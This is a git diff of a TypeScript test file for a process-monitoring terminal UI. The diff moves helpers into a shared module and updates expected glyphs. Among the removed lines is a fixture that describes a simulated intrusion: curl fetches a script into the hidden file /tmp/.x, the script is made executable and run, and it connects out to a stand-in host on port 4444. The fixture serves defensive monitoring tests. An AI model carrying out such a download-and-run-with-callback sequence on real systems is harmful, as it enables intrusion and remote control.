@@ -1,66 +1,7 @@
-import { afterEach, describe, expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import { Monitor } from "../../src/core/monitor.ts";
-import { BatchWriter } from "../../src/core/wire/encode.ts";
 import { textWidth } from "../../src/ui/text/width.ts";
-import { BASE_NS, graphFromText, WALL_NS } from "../core/fixture.ts";
-import { Screen, type ScreenOptions } from "./screen.tsx";
-
-const ATTACK = `
-  sshd listens :22
-  sshd:22 <- 203.0.113.9:51022
-  sshd > bash
-  bash > curl(-s http://cdn.x/i.sh -o /tmp/.x)
-  curl -> 198.51.100.7:80
-  curl writes /tmp/.x
-  curl exits 0
-  bash > chmod(+x /tmp/.x)
-  chmod chmods /tmp/.x
-  chmod exits 0
-  bash > /tmp/.x
-  .x -> 192.0.2.77:4444
-`;
-
-const open: Screen[] = [];
-afterEach(() => {
-  for (const screen of open.splice(0)) screen.close();
-});
-
-function show(monitor: Monitor, options: ScreenOptions = {}): Screen {
-  const screen = new Screen(monitor, options);
-  open.push(screen);
-  return screen;
-}
-
-const attack = (options: ScreenOptions = {}): Screen => show(graphFromText(ATTACK).monitor, options);
-
-/** Processes under pid 1, numbered from `from`; each call is one more batch. */
-function crowd(monitor: Monitor, from: number, count: number, argv = (pid: number) => [`worker-${pid}`]): void {
-  const writer = new BatchWriter();
-  const timeNs = BASE_NS + 60e9 + from * 1e6;
-  for (let pid = from; pid < from + count; pid++) {
-    writer.image({
-      timeNs,
-      pid,
-      startNs: BASE_NS + pid * 1e6,
-      exe: "/usr/bin/worker",
-      argv: argv(pid),
-      comm: "worker",
-      cwd: "/",
-      parentPid: 1,
-      parentStartNs: 1_000_000,
-      uid: 1000,
-    });
-  }
-  monitor.ingest(writer.finish(timeNs, WALL_NS + BigInt(timeNs - BASE_NS)));
-}
-
-const selectedRow = async (screen: Screen): Promise<string> => {
-  const lines = await screen.lines();
-  for (const [y, line] of lines.entries()) {
-    if ((await screen.background(5, y)) === 0x264f78) return line;
-  }
-  return "";
-};
+import { attack, crowd, selectedRow, show } from "./stories.ts";
 
 describe.each([
   [80, 24],
@@ -72,7 +13,7 @@ describe.each([
     expect(text).toMatch(/LIVE/u);
     expect(text).toMatch(/lost 0/u);
     expect(text).toMatch(/sshd +⇐ :22/u);
-    expect(text).toMatch(/▲ +101 deploy .*└─ bash/u);
+    expect(text).toMatch(/△ +101 deploy .*└─ bash/u);
     expect(text).toMatch(
       /▲ +104 deploy .*└─ \/tmp\/\.x .*⇒ 192\.0\.2\.77:4444|▲ +104 deploy .*\/tmp\/\.x +⚙ \/tmp\/\.x \+1/u,
     );
@@ -81,7 +22,7 @@ describe.each([
 
   test("every line fits, and the frame has exactly the terminal's size", async () => {
     const screen = attack({ columns, rows });
-    for (const keys of ["", "\r", "o", "2", "3", "4", "6", "?", "\x1b", "1", "/", "\x1b", ".", "\x1b"]) {
+    for (const keys of ["", "\r", "o", "2", "3", "4", "5", "6", "?", "\x1b", "1", "/", "\x1b", ".", "\x1b"]) {
       screen.press(keys);
       const lines = await screen.lines();
       expect(lines).toHaveLength(rows);
@@ -161,7 +102,7 @@ describe("moving", () => {
   test("collapse hides what is below, and says how much", async () => {
     const screen = attack();
     screen.press("j", "j", "h");
-    expect(await screen.text()).toMatch(/▲ +101 .*bash +\(3 below\)/u);
+    expect(await screen.text()).toMatch(/△ +101 .*bash +\(3 below\)/u);
     expect(await screen.text()).not.toMatch(/chmod/u);
     screen.press("l");
     expect(await screen.text()).toMatch(/chmod/u);
